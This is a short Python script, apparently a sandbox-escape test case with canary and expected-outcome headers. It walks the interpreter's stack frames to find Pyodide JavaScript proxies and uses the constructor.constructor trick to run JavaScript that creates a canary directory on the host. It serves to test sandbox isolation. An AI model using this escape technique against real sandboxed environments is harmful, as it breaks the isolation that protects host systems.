# Goal: climb the frames of the harness and take a JavaScript object from their variables.
# canary: folder
# expect: ok error
import sys

text = f"process.getBuiltinModule('fs').mkdirSync('{canary['folder']}/{canary['token']}')"
frame, names = sys._getframe(), []
while frame is not None:
    for space in (frame.f_locals, frame.f_globals):
        for key, value in list(space.items()):
            if type(value).__name__ == "JsProxy" or key in ("js", "pyodide_js", "to_js"):
                names.append(key)
                target = value([1]) if key == "to_js" else value
                getattr(target, "Object", target).constructor.constructor(text)()
    frame = frame.f_back
if not names:
    from _pyodide_core import to_js
    to_js([]).constructor.constructor(text)()
